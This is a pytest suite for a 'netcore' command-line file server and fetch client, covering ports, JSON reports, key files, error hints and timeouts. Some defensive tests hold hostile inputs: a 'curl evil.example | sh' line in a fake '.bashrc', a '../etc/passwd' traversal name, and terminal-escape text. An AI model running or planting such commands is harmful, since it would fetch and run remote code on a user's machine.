"""``python -m netcore file-server`` and ``python -m netcore fetch`` as a user runs them: subprocesses.

The server listens on port 0 and the tests read the real port from its "listening on" line; every
server subprocess is terminated and waited for; every file is under pytest's tmp_path.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from netcore.cli.commands import EXIT_NET, EXIT_OK, EXIT_PROTOCOL, EXIT_USAGE
from netcore.protocols.filehdr import encode_header
from tests.hostile.support import FakeTcpServer, play_and_close
from tests.netcore.support import NetcoreProcess, cli

RUN_TIMEOUT = 30


def netcore(*args: str) -> subprocess.CompletedProcess[str]:
    return cli(*args, timeout=RUN_TIMEOUT)


class FileServerProcess(NetcoreProcess):
    """``python -m netcore file-server --port 0`` in a subprocess; a thread reads its output lines."""

    def __init__(self, root: Path, *extra: str) -> None:
        super().__init__("file-server", "--root", str(root), "--port", "0", *extra, stderr=subprocess.STDOUT)
        line = self.wait_for("listening on ")
        self.port = int(line.rsplit(":", 1)[1])


@pytest.fixture
def file_server() -> Iterator[Callable[..., FileServerProcess]]:
    servers: list[FileServerProcess] = []

    def start(root: Path, *extra: str) -> FileServerProcess:
        server = FileServerProcess(root, *extra)
        servers.append(server)
        return server

    try:
        yield start
    finally:
        for server in servers:
            server.stop()


@pytest.fixture
def served(tmp_path: Path) -> Path:
    root = tmp_path / "served"
    root.mkdir()
    (root / "hello.png").write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(300_000))
    (root / "notes.txt").write_bytes("笔记 notes\n".encode() * 50)
    return root


@pytest.fixture
def out(tmp_path: Path) -> Path:
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def fetch_json(port: int, name: str, out: Path, *extra: str) -> dict:
    proc = netcore("fetch", name, "--port", str(port), "--out", str(out), "--json", *extra)
    assert proc.returncode == EXIT_OK, proc.stderr
    return json.loads(proc.stdout)


def test_the_server_cannot_choose_the_saved_name(out):
    """A server answering .bashrc for holiday.jpg: holiday.jpg is saved, the server's name is shown."""
    body = b"curl evil.example | sh\n"
    header = {"file_name": ".bashrc", "file_hex": hashlib.md5(body).hexdigest(), "data_all": len(body)}
    server = FakeTcpServer()
    try:
        server.expect(play_and_close([encode_header(header) + body], len("holiday.jpg")))
        proc = netcore("fetch", "holiday.jpg", "--port", str(server.port), "--out", str(out))
        server.wait_done()
    finally:
        server.close()
    assert proc.returncode == EXIT_OK, proc.stderr
    assert "the server calls it '.bashrc' (not used: saved as asked)" in proc.stdout
    assert os.listdir(out) == ["holiday.jpg"]
    assert (out / "holiday.jpg").read_bytes() == body


def test_file_server_on_port_0_and_fetch_json(file_server, served, out):
    server = file_server(served, "--quiet")
    assert server.port > 0
    report = fetch_json(server.port, "hello", out)
    data = (served / "hello.png").read_bytes()
    assert (report["file_name"], report["server_name"]) == ("hello.png", "hello.png")
    assert Path(report["path"]) == out / "hello.png"
    assert (report["size"], report["md5"]) == (len(data), hashlib.md5(data).hexdigest())
    assert report["verified"] is True
    assert report["length_format"] == "!I"
    assert report["seconds"] >= 0 and report["mb_per_s"] >= 0
    assert report["header"] == {
        "file_name": "hello",
        "file_hex": hashlib.md5(data).hexdigest(),
        "file_type": "png",
        "data_all": len(data),
    }
    assert (out / "hello.png").read_bytes() == data
    assert sorted(p.name for p in out.iterdir()) == ["hello.png"]


def test_fetch_human_output(file_server, served, out):
    server = file_server(served, "--quiet")
    proc = netcore("fetch", "notes.txt", "--port", str(server.port), "--out", str(out))
    assert proc.returncode == EXIT_OK, proc.stderr
    assert f"saved {out / 'notes.txt'}" in proc.stdout
    assert "md5 verified" in proc.stdout and "header length sent as '!I'" in proc.stdout


def test_the_server_prints_the_traffic_it_serves(file_server, served, out):
    server = file_server(served)
    fetch_json(server.port, "notes.txt", out)
    server.wait_for("#1 connected")
    server.wait_for("← recv() 9 bytes")  # the request, then its hexdump
    server.wait_for("|notes.txt|")
    server.wait_for("closed: closed here")  # after the client's 'q'


def test_list(file_server, served, out):
    server = file_server(served, "--quiet")
    proc = netcore("fetch", "--list", "--port", str(server.port), "--json")
    assert proc.returncode == EXIT_OK, proc.stderr
    assert json.loads(proc.stdout) == {"files": ["hello.png", "notes.txt"]}
    proc = netcore("fetch", "--list", "--port", str(server.port))
    assert proc.stdout.splitlines() == ["hello.png", "notes.txt"]


def test_key_file(file_server, served, out, tmp_path):
    key = tmp_path / "key"
    key.write_bytes(b"correct horse battery staple\n")
    server = file_server(served, "--quiet", "--key-file", str(key))
    report = fetch_json(server.port, "notes.txt", out, "--key-file", str(key))
    assert report["verified"] is True

    wrong = tmp_path / "wrong"
    wrong.write_bytes(b"an incorrect key of 32 bytes....")
    proc = netcore(
        "fetch", "hello.png", "--port", str(server.port), "--out", str(out), "--key-file", str(wrong)
    )
    assert proc.returncode == EXIT_NET
    assert "wrong key" in proc.stderr and "Traceback" not in proc.stderr
    assert sorted(p.name for p in out.iterdir()) == ["notes.txt"]


def test_an_empty_or_missing_key_file_is_a_usage_error(served, out, tmp_path):
    empty = tmp_path / "empty"
    empty.write_bytes(b"\n")
    proc = netcore("fetch", "x", "--port", "9", "--key-file", str(empty))
    assert proc.returncode == EXIT_USAGE and "is empty" in proc.stderr
    proc = netcore("file-server", "--root", str(served), "--port", "0", "--key-file", str(tmp_path / "none"))
    assert proc.returncode == EXIT_USAGE and "cannot read the key file" in proc.stderr


def test_course_byte_order_server_with_auto_client(file_server, served, out):
    server = file_server(served, "--quiet", "--length-format", "<i")
    report = fetch_json(server.port, "notes.txt", out)
    assert (report["length_format"], report["verified"]) == ("<i", True)
    # a client told the wrong byte order fails with a protocol error and a hint
    proc = netcore("fetch", "hello", "--port", str(server.port), "--out", str(out), "--length-format", "!I")
    assert proc.returncode == EXIT_PROTOCOL
    assert "try the other length format" in proc.stderr and "hint:" in proc.stderr


def test_an_existing_file_is_exit_1_with_the_hint(file_server, served, out):
    (out / "notes.txt").write_bytes(b"mine")
    server = file_server(served, "--quiet")
    proc = netcore("fetch", "notes.txt", "--port", str(server.port), "--out", str(out))
    assert proc.returncode == 1
    assert f"error: 'notes.txt' already exists in {out}" in proc.stderr
    assert "hint: Choose another folder, or allow overwriting." in proc.stderr
    assert (out / "notes.txt").read_bytes() == b"mine"
    assert sorted(p.name for p in out.iterdir()) == ["notes.txt"]

    report = fetch_json(server.port, "notes.txt", out, "--overwrite")
    assert report["verified"] is True
    assert (out / "notes.txt").read_bytes() == (served / "notes.txt").read_bytes()


def test_an_unknown_name_is_exit_1_with_the_hint(file_server, served, out):
    server = file_server(served, "--quiet")
    proc = netcore("fetch", "../etc/passwd", "--port", str(server.port), "--out", str(out))
    assert proc.returncode == EXIT_NET
    assert "the server refused '../etc/passwd'" in proc.stderr
    assert "hint: Check the name against the server's file list." in proc.stderr
    assert list(out.iterdir()) == []


def test_fetch_without_a_name_is_a_usage_error(file_server, served):
    server = file_server(served, "--quiet")
    proc = netcore("fetch", "--port", str(server.port))
    assert proc.returncode == EXIT_USAGE and "name a file to fetch, or use --list" in proc.stderr


def test_a_missing_output_folder_is_an_error_not_a_traceback(file_server, served, tmp_path):
    server = file_server(served, "--quiet")
    proc = netcore("fetch", "notes.txt", "--port", str(server.port), "--out", str(tmp_path / "nope"))
    assert proc.returncode == EXIT_NET
    assert "cannot create a file in" in proc.stderr and "hint:" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_a_silent_server_is_a_timeout_not_a_traceback(out):
    with socket.create_server(("127.0.0.1", 0)) as listener:  # accepts (backlog), never answers
        port = listener.getsockname()[1]
        proc = netcore("fetch", "x", "--port", str(port), "--out", str(out), "--timeout", "0.3")
    assert proc.returncode == EXIT_NET
    assert "timed out after 0.3 s" in proc.stderr and "hint: No answer from" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_nothing_listening_is_refused_with_the_hint(out):
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]  # bound, not listening: connecting is refused
        proc = netcore("fetch", "x", "--port", str(port), "--out", str(out))
    assert proc.returncode == EXIT_NET
    assert "start the server first" in proc.stderr


def test_a_root_that_is_not_a_folder_is_a_usage_error(tmp_path):
    proc = netcore("file-server", "--root", str(tmp_path / "missing"), "--port", "0", "--duration", "1")
    assert proc.returncode == EXIT_USAGE and "is not a folder" in proc.stderr


def test_a_servers_text_cannot_drive_the_terminal(tmp_path) -> None:
    """A file server's error text with terminal escapes (set the title, recolour) and a bidi
    override is printed with those characters as visible escapes, never sent to the terminal raw."""
    evil = "\x1b]0;pwned\x07\x1b[31mRED\u202eevil"
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]

        def answer() -> None:
            conn, _ = listener.accept()
            with conn:
                conn.recv(100)  # the request
                conn.sendall(encode_header({"error": evil, "data_all": 0}))
                conn.recv(100)  # until the client leaves

        server = threading.Thread(target=answer, daemon=True)
        server.start()
        done = netcore("fetch", "--port", str(port), "--out", str(tmp_path), "x.txt")
        server.join(10)
    assert done.returncode != 0
    output = done.stdout + done.stderr
    assert "\\x1b]0;pwned\\x07\\x1b[31mRED\\u202eevil" in output, output
    assert not any(c in output for c in "\x1b\x07\u202e")


def test_the_terminal_line_says_what_the_fetch_waits_for_then_how_far_the_body_is():
    """On a terminal one line is rewritten: the server's hashing, then the bytes, each over the
    whole of the longer line before it (no leftover characters), and a new line at the end."""
    import io

    from netcore.cli.commands import _ProgressPrinter
    from netcore.model.events import FetchStatus
    from netcore.model.fetch import HASHING

    out = io.StringIO()
    printer = _ProgressPrinter(out)
    printer.status(FetchStatus("big.iso", HASHING, {"name": "big.iso", "percent": 50.0, "size": 2000}))
    printer.progress(1000, 2000)
    printer.progress(2000, 2000)
    status, half, done = out.getvalue().split("\r")[1:]
    assert status == "the server is hashing 'big.iso': 50 % of 2,000 bytes"
    assert half.rstrip() == "1,000 / 2,000 bytes (50 %)" and len(half) == len(status)
    assert done.endswith("(100 %)" + " " * (len(status) - len("2,000 / 2,000 bytes (100 %)")) + "\n")
